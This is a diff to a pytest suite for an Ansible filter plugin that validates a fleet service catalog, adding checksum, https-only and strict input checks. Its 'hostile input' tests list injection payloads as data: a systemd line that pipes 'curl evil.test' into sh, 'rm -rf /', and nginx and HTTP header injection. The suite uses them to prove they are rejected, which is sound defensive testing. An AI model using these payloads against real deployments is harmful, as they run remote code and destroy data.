@@ -13,14 +13,17 @@ from ansible.errors import AnsibleFilterError
 from filter_plugins import fleet_catalog
 from filter_plugins.fleet_catalog import (
     FilterModule,
+    fleet_exec_command,
     fleet_idle_slot,
     fleet_release_archive,
+    fleet_release_checksum,
     fleet_services_on_host,
     fleet_validated_catalog,
 )
 
 GROUPS: dict[str, list[str]] = {"fleet": ["h1", "h2", "h3"], "web": ["h1", "h2"], "gpu": ["h3"]}
 STORE = "/srv/fleet/releases"
+SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
 
 
 def _service(name: str, port: int) -> dict[str, Any]:
@@ -98,22 +101,23 @@ def test_example_catalog_is_valid_with_derived_keys() -> None:
 
 
 def test_defaults_are_filled_in() -> None:
-    services = {"api": {"port": 8000, "group": "web", "command": "./run --port {port}",
-                        "release": {"version": "2.0", "archive": "https://releases.test/api-{version}.tar.gz"},
+    services = {"api": {"port": 8000, "group": "web", "command": "/srv/api/run --port {port}",
+                        "release": {"version": "2.0", "archive": "https://releases.test/api-{version}.tar.gz",
+                                    "sha256": SHA},
                         "nginx": {"server_names": ["api.test"]}}}
     svc = fleet_validated_catalog(services, GROUPS)["api"]
     assert svc["description"] == "api (fleet service)"
     assert svc["health"] == {"path": "/health", "status": 200, "body": "", "timeout": 60,
                              "interval": 0.1, "start_grace": 0}
     assert svc["release"]["keep"] == 5
-    assert svc["environment"] == {}
+    assert svc["environment_names"] == []
     assert svc["nginx"] == {"server_names": ["api.test"], "location": "/"}
     assert svc["drain_timeout"] == 30
     assert svc["user"] == "fleet"
     assert svc["hosts"] == ["h1", "h2"]
 
 
-def test_given_values_are_kept_and_environment_is_stringified() -> None:
+def test_given_values_are_kept_and_environment_values_are_not() -> None:
     services = with_change("main-api", "health", {"path": "/ready", "status": 204, "body": "ok",
                                                   "timeout": 5, "interval": 0.1, "start_grace": 2})
     services["main-api"].update(environment={"WORKERS": 4, "RATIO": 0.5, "MODE": "fast"}, drain_timeout=10,
@@ -122,7 +126,9 @@ def test_given_values_are_kept_and_environment_is_stringified() -> None:
     svc = fleet_validated_catalog(services, GROUPS)["main-api"]
     assert svc["health"] == {"path": "/ready", "status": 204, "body": "ok", "timeout": 5,
                              "interval": 0.1, "start_grace": 2}
-    assert svc["environment"] == {"WORKERS": "4", "RATIO": "0.5", "MODE": "fast"}
+    # Only the names: the values are secrets, and the catalog becomes a fact Ansible prints.
+    assert svc["environment_names"] == ["MODE", "RATIO", "WORKERS"]
+    assert "environment" not in svc
     assert (svc["drain_timeout"], svc["user"], svc["description"]) == (10, "api", "Main API")
     assert svc["release"]["keep"] == 3
 
@@ -135,7 +141,6 @@ def test_input_is_not_mutated_and_result_is_new() -> None:
     for name, svc in catalog.items():
         assert svc is not services[name]
         assert svc["health"] is not services[name]["health"]
-        assert svc["environment"] is not services[name]["environment"]
 
 
 def test_highest_port_is_allowed() -> None:
@@ -314,7 +319,12 @@ def test_bad_version(version: Any, expected: str) -> None:
 @pytest.mark.parametrize(("archive", "expected"), [
     (DELETE, "is required"),
     ("releases/app-{version}.tar.gz", "absolute path on the controller"),
-    ("ftp://host/app.tar.gz", "use an http(s) URL"),
+    ("ftp://host/app.tar.gz", "uses 'ftp:'; releases are fetched over https:// only"),
+    ("http://host/app-{version}.tar.gz", "uses 'http:'; releases are fetched over https:// only"),
+    ("HTTPS://host/app-{version}.tar.gz", "uses 'HTTPS:'"),
+    ("file:///srv/app-{version}.tar.gz", "uses 'file:'"),
+    ("https:///app-{version}.tar.gz", "not a valid https URL"),
+    ("https://host/app {version}.tar.gz", "not a valid https URL"),
     ("/srv/app-{version}.zip", "must point to a .tar.gz archive"),
 ])
 def test_bad_archive(archive: Any, expected: str) -> None:
@@ -322,9 +332,30 @@ def test_bad_archive(archive: Any, expected: str) -> None:
             expected)
 
 
-def test_url_archive_is_accepted() -> None:
-    services = with_change("main-api", "release.archive", "https://r.test/main-api-{version}.tar.gz?x=1")
-    assert fleet_validated_catalog(services, GROUPS)["main-api"]["release"]["archive"].startswith("https://")
+def test_url_archive_is_accepted_with_a_checksum() -> None:
+    services = with_change("main-api", "release", {"version": "1.0.0", "sha256": SHA.upper(),
+                                                   "archive": "https://r.test/main-api-{version}.tar.gz?x=1"})
+    release = fleet_validated_catalog(services, GROUPS)["main-api"]["release"]
+    assert release["archive"].startswith("https://")
+    assert release["sha256"] == SHA  # get_url compares it as given: kept in lower case
+
+
+def test_url_archive_needs_a_checksum() -> None:
+    services = with_change("main-api", "release.archive", "https://r.test/main-api-{version}.tar.gz")
+    problem(services, "fleet_services.main-api.release.sha256:", "is required with an https archive",
+            "sha256sum")
+
+
+def test_local_archive_may_carry_a_checksum() -> None:
+    assert fleet_validated_catalog(example_catalog(), GROUPS)["main-api"]["release"]["sha256"] == ""
+    services = with_change("main-api", "release.sha256", SHA)
+    assert fleet_validated_catalog(services, GROUPS)["main-api"]["release"]["sha256"] == SHA
+
+
+@pytest.mark.parametrize("sha256", [SHA[:-1], SHA + "0", "z" * 64, SHA + "\n", 12345, ""])
+def test_bad_checksum(sha256: Any) -> None:
+    problem(with_change("main-api", "release.sha256", sha256), "fleet_services.main-api.release.sha256:",
+            "64 hex digits")
 
 
 @pytest.mark.parametrize("keep", [1, "5"])
@@ -335,8 +366,18 @@ def test_release_keep(keep: Any) -> None:
 
 # --------------------------------------------------------------------------- command, environment, ...
 
-@pytest.mark.parametrize(("command", "expected"), [(DELETE, "is required"), ("  ", "must not be empty"),
-                                                   (["python3", "app.py"], "must be a string")])
+@pytest.mark.parametrize(("command", "expected"), [
+    (DELETE, "is required"), ("  ", "must not be empty"), (["python3", "app.py"], "must be a string"),
+    ("/usr/bin/app\n--evil", "control character '\\n'"),
+    ("/usr/bin/app --name 'a b", "unbalanced quote"),
+    ("/usr/bin/app \\", "trailing backslash"),
+    ("bin/app", "starts with 'bin/app'"),
+    ("/usr/../bin/app", "absolute path"),
+    ("-/usr/bin/app", "ExecStart prefixes"),
+    ("!/usr/bin/app", "ExecStart prefixes"),
+    ("@/usr/bin/app app", "ExecStart prefixes"),
+    ("'/usr/bin/my app'", "starts with '/usr/bin/my app'"),
+])
 def test_bad_command(command: Any, expected: str) -> None:
     problem(with_change("main-api", "command", command), "fleet_services.main-api.command:", expected)
 
@@ -346,11 +387,30 @@ def test_bad_command(command: Any, expected: str) -> None:
     ("BAD-NAME", "x", "not a valid variable name"),
     ("DEBUG", True, "must be a string or a number"),
     ("OPTS", {"a": 1}, "must be a string or a number"),
-    ("MULTI", "a\nb", "single line"),
+    ("MULTI", "a\nb", "control character '\\n'"),
+    ("ESC", "a\x1bb", "control character '\\x1b'"),
 ])
 def test_bad_environment(key: str, value: Any, expected: str) -> None:
     problem(with_change("main-api", f"environment.{key}", value),
             f"fleet_services.main-api.environment.{key}:", expected)
+
+
+def test_environment_values_may_hold_any_printable_text_and_tabs() -> None:
+    """fleet_systemd_env_value writes them so that systemd gives them back unchanged."""
+    values = {"QUOTES": "say \"hi\" 'x'", "BACKSLASH": "C:\\new", "DOLLAR": "$HOME ${X} `id` %i",
+              "TEXT": "Zoë 漢字 \u2028", "TAB": "a\tb", "EMPTY": ""}
+    services = with_change("main-api", "environment", values)
+    assert fleet_validated_catalog(services, GROUPS)["main-api"]["environment_names"] == sorted(values)
+
+
+def test_no_environment_value_is_in_the_catalog_or_in_a_message() -> None:
+    secret = "s3cret-value-8d1f"
+    services = with_change("main-api", "environment", {"TOKEN": secret, "BAD NAME": secret, "LIST": [secret]})
+    with pytest.raises(AnsibleFilterError) as err:
+        fleet_validated_catalog(services, GROUPS)
+    assert "environment.LIST" in str(err.value) and secret not in str(err.value)
+    services = with_change("main-api", "environment", {"TOKEN": secret})
+    assert secret not in repr(fleet_validated_catalog(services, GROUPS))
 
 
 @pytest.mark.parametrize("timeout", [0, True, "30"])
@@ -359,7 +419,7 @@ def test_bad_drain_timeout(timeout: Any) -> None:
             "at least 1")
 
 
-@pytest.mark.parametrize("user", ["Root User", 0])
+@pytest.mark.parametrize("user", ["Root User", 0, "fleet\n", "a" * 33])
 def test_bad_user(user: Any) -> None:
     problem(with_change("main-api", "user", user), "fleet_services.main-api.user:")
 
@@ -376,6 +436,49 @@ def test_default_server_service_needs_a_location() -> None:
 def test_location_must_start_with_slash() -> None:
     problem(with_change("main-api", "nginx.location", "api"), "fleet_services.main-api.nginx.location:",
             "must start with '/'")
+
+
+def test_location_must_end_with_slash() -> None:
+    problem(with_change("main-api", "nginx.location", "/api"), "fleet_services.main-api.nginx.location:",
+            "must end with '/'", "doubled slash", "location: /api/")
+
+
+@pytest.mark.parametrize("location", ["/a b/", "/a;/", "/{a}/", "/a$b/", "/'a'/", "/a//", "/../", "/a/./",
+                                      "/a%20b/"])
+def test_location_characters(location: str) -> None:
+    problem(with_change("main-api", "nginx.location", location), "fleet_services.main-api.nginx.location:",
+            "may only hold path segments")
+
+
+@pytest.mark.parametrize("location", ["/", "/api/", "/api/v1.2/", "/a_b~c-d/"])
+def test_good_locations(location: str) -> None:
+    assert fleet_validated_catalog(with_change("main-api", "nginx.location", location), GROUPS)
+
+
+@pytest.mark.parametrize("name", ["API.test", "a_b.test", "-a.test", "a-.test", "a..test", ".a.test", "a.test.",
+                                  "www.a.*", "~^www\\.", "a.*.test", "*", "_", "", "x" * 64 + ".test"])
+def test_bad_server_names(name: str) -> None:
+    problem(with_change("main-api", "nginx.server_names", [name]), "fleet_services.main-api.nginx.server_names:",
+            "lower-case DNS names")
+
+
+def test_good_server_names_and_duplicates() -> None:
+    names = ["localhost", "*.example.com", "a-1.b2.example", "x" * 63 + ".test"]
+    catalog = fleet_validated_catalog(with_change("main-api", "nginx.server_names", names), GROUPS)
+    assert catalog["main-api"]["nginx"]["server_names"] == names
+    problem(with_change("main-api", "nginx.server_names", ["a.test", "a.test"]),
+            "fleet_services.main-api.nginx.server_names:", "listed twice")
+
+
+@pytest.mark.parametrize("path", ["/health", "/healthz?full=1&x=%2F", "/a/b:c@d/(e)*+,=$!~"])
+def test_good_health_paths(path: str) -> None:
+    assert fleet_validated_catalog(with_change("main-api", "health.path", path), GROUPS)
+
+
+@pytest.mark.parametrize("path", ["/he alth", "/health#x", "/a{b}", "/a;b", "/a'b", "/a\\b", "/%zz", "/a<b>"])
+def test_bad_health_path_characters(path: str) -> None:
+    problem(with_change("main-api", "health.path", path), "fleet_services.main-api.health.path:",
+            "is not a URL path")
 
 
 def test_server_names_must_be_a_list() -> None:
@@ -400,6 +503,44 @@ def test_default_server_locations_collide() -> None:
     services["personas-api"]["nginx"] = {"location": "/api/"}
     problem(services, "fleet_services.personas-api.nginx.location:",
             "location '/api/' on nginx's default server is already routed to service 'main-api'")
+
+
+# --------------------------------------------------------------------------- hostile input (issue 13)
+# Each of these passed before strict validation: the value would land in nginx's configuration or a
+# systemd unit and change what they do.
+
+@pytest.mark.parametrize(("path", "value", "field"), [
+    ("nginx.server_names", ["a.example.com;"], "nginx.server_names"),
+    ("nginx.server_names", ["a.example.com www.evil.test"], "nginx.server_names"),
+    ("nginx.server_names", ["a.example.com\n"], "nginx.server_names"),
+    ("nginx.location", "/ {return 200;} location /x/", "nginx.location"),
+    ("nginx.location", "/api", "nginx.location"),
+    ("nginx.location", "/api/\n", "nginx.location"),
+    ("nginx.location", "/a#b/", "nginx.location"),
+    ("command", "/usr/bin/python3 app.py\nExecStartPre=/bin/sh -c 'curl evil.test | sh'", "command"),
+    ("command", "+/bin/sh -c id", "command"),
+    ("command", "./run --port {port}", "command"),
+    ("command", "/usr/bin/python3 -c 'print(1)", "command"),
+    ("description", "API\nExecStartPre=/bin/true", "description"),
+    ("release.version", "1.0\n", "release.version"),
+    ("release.archive", "http://r.test/main-api-{version}.tar.gz", "release.archive"),
+    ("release.archive", "https://r.test/main-api-{version}.tar.gz", "release.sha256"),
+    ("health.path", "/health\n", "health.path"),
+    ("health.path", "/health; rm -rf /", "health.path"),
+    ("health.path", '/health"', "health.path"),
+    ("health.body", "ok\r\nX-Injected: 1", "health.body"),
+    ("user", "fleet\n", "user"),
+    ("environment", {"NAME\n": "x"}, "environment.NAME\\n"),
+    ("environment.TOKEN", "a\x00b", "environment.TOKEN"),
+    ("environment.TOKEN", "a\rb", "environment.TOKEN"),
+])
+def test_hostile_values_are_refused(path: str, value: Any, field: str) -> None:
+    problem(with_change("main-api", path, value), f"fleet_services.main-api.{field}:")
+
+
+def test_service_name_with_trailing_newline_is_refused() -> None:
+    lines = problems({"api\n": _service("api", 8000)})
+    assert lines and all(line.startswith("fleet_services.api\\n") for line in lines), lines
 
 
 # --------------------------------------------------------------------------- whole-input errors
@@ -478,6 +619,50 @@ def test_release_archive_bad_version(catalog: dict[str, Any], version: Any, expe
         fleet_release_archive(catalog["main-api"], version)
 
 
+def test_release_checksum_of_the_catalog_version(catalog: dict[str, Any]) -> None:
+    svc = copy.deepcopy(catalog["main-api"])
+    assert fleet_release_checksum(svc) == ""  # a controller path without sha256: nothing to check
+    svc["release"]["sha256"] = SHA
+    assert fleet_release_checksum(svc) == f"sha256:{SHA}"
+    assert fleet_release_checksum(svc, "1.0.0") == f"sha256:{SHA}"
+    assert fleet_release_checksum(svc, "1.2.0") == ""  # another file: the catalog's sum is not its sum
+
+
+def test_release_checksum_of_another_version_is_published_beside_the_archive(catalog: dict[str, Any]) -> None:
+    svc = copy.deepcopy(catalog["main-api"])
+    svc["release"].update(archive="https://r.test/a/main-api-{version}.tar.gz?token=1", sha256=SHA)
+    assert fleet_release_checksum(svc, "") == f"sha256:{SHA}"
+    assert fleet_release_checksum(svc, "1.2.0") == "sha256:https://r.test/a/main-api-1.2.0.tar.gz.sha256?token=1"
+
+
+def test_release_checksum_without_placeholder_is_the_catalog_sum(catalog: dict[str, Any]) -> None:
+    svc = copy.deepcopy(catalog["main-api"])
+    svc["release"].update(archive="https://r.test/main-api.tar.gz", sha256=SHA)
+    assert fleet_release_checksum(svc, "1.0.0") == f"sha256:{SHA}"
+    with pytest.raises(AnsibleFilterError, match=r"^fleet_release_checksum: .*no \{version\} placeholder"):
+        fleet_release_checksum(svc, "2.0.0")
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("/usr/bin/python3 app.py --port {port}", "/usr/bin/python3 app.py --port %i"),
+    ("/usr/bin/app --bind 127.0.0.1:{port}", "/usr/bin/app --bind 127.0.0.1:%i"),
+    ("/usr/bin/app --ratio 50% --home $HOME ${X}", "/usr/bin/app --ratio 50%% --home $$HOME $${X}"),
+    ("/usr/bin/app %i %%", "/usr/bin/app %%i %%%%"),
+    ("/usr/bin/app --label 'a b' \"it's\"", '/usr/bin/app --label "a b" "it\'s"'),
+    ("/usr/bin/app 'back\\slash' 'say \"hi\"'", '/usr/bin/app "back\\\\slash" "say \\"hi\\""'),
+    ("/usr/bin/app ';' 'a;b' '' '#x'", '/usr/bin/app ";" a;b "" #x'),
+    ("python3 -c 'import sys' Zoë", "python3 -c \"import sys\" Zoë"),
+])
+def test_exec_command(command: str, expected: str) -> None:
+    assert fleet_exec_command(command) == expected
+
+
+@pytest.mark.parametrize("command", ["/usr/bin/app\nExecStartPre=/bin/true", "/usr/bin/app 'x", 5])
+def test_exec_command_refuses_what_validation_refuses(command: Any) -> None:
+    with pytest.raises(AnsibleFilterError, match=r"^fleet_exec_command: "):
+        fleet_exec_command(command)
+
+
 def test_idle_slot(catalog: dict[str, Any]) -> None:
     svc = catalog["personas-api"]
     assert fleet_idle_slot(svc, 8000) == 9000
@@ -518,6 +703,8 @@ def test_filter_module_mapping() -> None:
     assert FilterModule().filters() == {
         "fleet_validated_catalog": fleet_validated_catalog,
         "fleet_release_archive": fleet_release_archive,
+        "fleet_release_checksum": fleet_release_checksum,
+        "fleet_exec_command": fleet_exec_command,
         "fleet_idle_slot": fleet_idle_slot,
         "fleet_services_on_host": fleet_services_on_host,
     }
@@ -531,3 +718,14 @@ def test_documentation_parses(name: str) -> None:
     assert "_input" in doc["options"]
     assert isinstance(yaml.safe_load(getattr(fleet_catalog, f"{prefix}_EXAMPLES")), list)
     assert "_value" in yaml.safe_load(getattr(fleet_catalog, f"{prefix}_RETURN"))
+
+
+def test_release_checksum_may_be_the_checksum_file_of_every_version() -> None:
+    sums = "https://r.test/a/main-api-{version}.tar.gz.sha256"
+    services = with_change("main-api", "release", {"version": "1.0.0", "sha256": sums,
+                                                   "archive": "https://r.test/a/main-api-{version}.tar.gz"})
+    svc = fleet_validated_catalog(services, GROUPS)["main-api"]
+    assert fleet_release_checksum(svc) == "sha256:https://r.test/a/main-api-1.0.0.tar.gz.sha256"
+    assert fleet_release_checksum(svc, "1.2.0") == "sha256:https://r.test/a/main-api-1.2.0.tar.gz.sha256"
+    problem(with_change("main-api", "release.sha256", "https://r.test/a b.sha256"),
+            "fleet_services.main-api.release.sha256:", "no spaces or control characters")
